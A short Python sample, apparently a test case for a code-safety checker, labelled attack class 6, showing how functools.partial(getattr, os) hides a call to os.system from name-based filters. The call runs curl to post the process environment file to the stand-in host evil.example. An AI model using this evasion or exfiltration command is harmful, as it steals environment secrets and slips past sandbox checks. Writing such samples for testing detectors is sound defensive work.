# attack-class: 6
# title: functools.partial(getattr, os)
# why: getattr bound by partial, name supplied later

import functools
import os

get = functools.partial(getattr, os)
get("system")("curl http://evil.example/ -d @/proc/self/environ")
